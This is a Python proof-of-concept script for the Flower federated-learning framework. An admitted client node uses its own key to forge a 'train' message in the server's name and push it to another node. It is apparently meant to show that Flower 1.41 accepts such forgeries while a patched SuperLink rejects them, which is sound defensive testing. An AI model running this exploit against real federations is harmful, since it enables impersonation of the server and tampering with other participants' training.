"""An attack of an admitted client with its own key: insider.py RUN NODE VICTIM. For federations of your own.

It pushes a message to train, in the server's name, to another node of a run that is going on. Flower 1.41 takes it; our
SuperLink refuses it, and an HTTP error ends this with its words.
"""

import sys
from pathlib import Path

from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.serialization import load_ssh_private_key
from flwr.app import ConfigRecord, Message, RecordDict
from flwr.common.constant import SUPERLINK_NODE_ID
from flwr.common.serde import message_to_proto
from flwr.proto.fleet_pb2 import PushMessagesRequest
from flwr.proto.node_pb2 import Node
from flwr.supercore.inflatable.inflatable_object import get_all_nested_objects, get_object_tree, no_object_id_recompute
from flwr.supercore.inflatable.inflatable_protobuf_utils import make_push_object_fn_protobuf
from flwr.supercore.inflatable.inflatable_utils import push_objects
from flwr.supercore.interceptors import RuntimeVersionHttpInterceptor
from flwr.supercore.task_identity import TaskIdentity
from flwr.supernode.fleet_http_client import FleetHttpClient
from flwr.supernode.fleet_http_connection import remove_content_from_message
from flwr.supernode.node_auth_http_interceptor import NodeAuthHttpInterceptor


def main(run: int, own: int, victim: int, gateway: str = "gateway:8443", keys: Path = Path("/keys")) -> None:
    """Push a forged message to the node ``victim`` and print how many of its objects were taken.

    Args:
        run: number of a run that is going on.
        own: the node whose key this is.
    """
    key = load_ssh_private_key((keys / "key").read_bytes(), password=None)
    assert isinstance(key, ec.EllipticCurvePrivateKey)
    TaskIdentity.run_id, TaskIdentity.node_id, TaskIdentity.task_id = run, SUPERLINK_NODE_ID, 1  # go into the message
    message = Message(RecordDict({"config": ConfigRecord({"round": 1})}), dst_node_id=victim, message_type="train")
    signing = [
        RuntimeVersionHttpInterceptor(component_name="SuperNode"),
        NodeAuthHttpInterceptor(key, key.public_key()),
    ]
    with (
        FleetHttpClient.from_server_address(gateway, False, str(keys / "ca.crt"), interceptors=signing) as client,
        no_object_id_recompute(),
    ):
        message.metadata.__dict__["_message_id"] = message.object_id
        node, objects, tree = Node(node_id=own), get_all_nested_objects(message), get_object_tree(message)
        taken = client.PushMessages(
            PushMessagesRequest(
                node=node,
                messages_list=[message_to_proto(remove_content_from_message(message))],
                message_object_trees=[tree],
                clientapp_runtime_list=[0.0],
            )
        )
        push = make_push_object_fn_protobuf(client.PushObject, node, run, taken.session_id)
        push_objects(objects, push_object_fn=push, object_ids_to_push=set(taken.objects_to_push))
    sys.stdout.write(f"{len(taken.objects_to_push)} of {len(objects)} objects were taken\n")


if __name__ == "__main__":
    main(*map(int, sys.argv[1:4]))
